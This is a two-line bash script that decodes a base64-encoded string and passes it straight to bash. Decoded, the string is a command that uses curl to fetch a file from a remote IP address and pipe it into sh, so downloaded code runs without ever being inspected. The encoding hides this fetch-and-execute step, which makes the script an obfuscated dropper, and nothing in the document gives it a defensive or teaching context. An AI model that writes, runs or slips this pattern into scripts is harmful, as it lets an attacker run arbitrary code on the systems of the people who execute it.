#!/bin/bash
echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo" | base64 --decode | bash
